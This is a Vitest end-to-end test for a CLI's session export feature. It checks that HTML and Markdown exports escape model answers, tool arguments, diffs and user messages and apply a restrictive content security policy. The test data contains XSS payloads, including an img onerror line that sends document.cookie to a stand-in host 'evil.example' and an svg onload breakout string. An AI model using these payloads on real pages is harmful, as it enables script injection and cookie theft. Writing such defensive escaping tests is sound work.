/**
 * `keel sessions export --format html` is a page someone opens in a browser: the model's answer, a tool's
 * output, a file's content and the person's own message all come from outside, and none may become markup
 * there. A session whose answer carries a <script> and whose edit writes HTML must export as inert text
 * in a page that loads nothing and runs nothing.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { keel, keelHome, lastSessionEvents, model, modelFlags } from '../e2e/harness.js';
import { gitRepo, tempDir } from '../helpers/tmp.js';

const SCRIPT = '<script>alert(document.cookie)</script>';
const IMG = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">';
// an attribute breakout and a closing tag that would end the page's own <pre>/<title>
const BREAKOUT = `"'></pre></title><svg onload=alert(1)>`;

describe('session export: HTML stays text', () => {
  it('escapes the answer, the edit and its diff, the tool arguments and the message, and the page loads and runs nothing', async () => {
    const server = await model([
      {
        text: `first ${SCRIPT}`,
        tool_calls: [
          { name: 'write_file', arguments: { path: 'page.html', content: `${IMG}\n${BREAKOUT}\n` } },
        ],
      },
      // a code span with an odd closer is no code span: what follows its opener is HTML to a renderer
      { text: `done ${SCRIPT} ${BREAKOUT} \`<img src=y onerror=alert(2)>\`\`` },
    ]);
    const repo = gitRepo();
    const home = keelHome();
    const run = await keel(['run', ...modelFlags(server), `make a page ${IMG}`], { cwd: repo, home });
    expect(run.code).toBe(0);
    const id = lastSessionEvents(home)[0]?.session_id as string;
    const out = join(tempDir(), 'session.html');
    const exported = await keel(['sessions', 'export', id, '--format', 'html', '-o', out], {
      cwd: repo,
      home,
    });
    expect(exported.code).toBe(0);
    expect(exported.stderr).toContain(`exported session ${id} to ${out}`);
    const page = readFileSync(out, 'utf8');
    // the words are all there, as text
    expect(page).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
    expect(page).toContain('&lt;img src=x onerror=&quot;fetch(');
    expect(page).toContain('&lt;/pre&gt;&lt;/title&gt;&lt;svg onload=alert(1)&gt;');
    // the diff of the edit is in the page, escaped line by line
    expect(page).toMatch(/<span class="add">\+&lt;img src=x onerror=/);
    // no markup from the session: the only tags are the page's own
    const tags = new Set([...page.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]?.toLowerCase()));
    for (const bad of ['script', 'img', 'svg', 'iframe', 'object', 'link', 'base', 'form'])
      expect(tags.has(bad)).toBe(false);
    expect(page).not.toMatch(/<[^>]*\son[a-z]+=/i);
    // and if a browser were fooled anyway, the page's policy lets nothing load or run
    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);

    // Markdown renderers pass raw HTML through: the session's tags are entities there too, even where the
    // model wrote a code span a renderer would not match (`<img ...>`` with an odd closer); inside keel's
    // own fence (the diff) the text stays as written, and the content cannot close that fence
    const md = await keel(['sessions', 'export', id], { cwd: repo, home });
    expect(md.code).toBe(0);
    expect(md.stdout).toContain('## Turn 1');
    expect(md.stdout).toContain('first &lt;script>alert(document.cookie)&lt;/script>');
    expect(md.stdout).toContain('make a page &lt;img src=x');
    expect(md.stdout).toMatch(/```diff\n[\s\S]*\+<img src=x/);
    expect(md.stdout).toContain('`&lt;img src=y onerror=alert(2)>``');
    // the tool's arguments sit in keel's own one-backtick code span, which nothing inside can close
    const toolLine = md.stdout.split('\n').find((l) => l.startsWith('**write_file**')) ?? '';
    expect(toolLine).toMatch(/^\*\*write_file\*\* `[^`]*` — allow, ok$/);
    const outsideKeelCode = md.stdout.replace(/^(`{3,})diff\n[\s\S]*?\n\1$/gm, '').replace(toolLine, '');
    expect(outsideKeelCode).not.toMatch(/<(script|img|svg)/i);
  });
});
